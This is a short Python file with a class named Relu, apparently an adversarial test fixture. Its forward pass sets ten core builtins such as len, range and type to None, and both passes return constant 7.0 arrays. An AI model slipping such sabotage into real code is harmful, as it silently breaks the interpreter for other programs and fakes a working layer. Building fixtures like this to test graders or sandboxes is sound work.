"""Takes the builtins away that everybody uses."""

import builtins

import numpy as np


class Relu:
    def forward(self, x):
        for name in ("len", "isinstance", "range", "repr", "str", "list", "dict", "getattr", "hasattr", "type"):
            setattr(builtins, name, None)
        return np.full_like(x, 7.0)

    def backward(self, dout):
        return np.full_like(dout, 7.0)
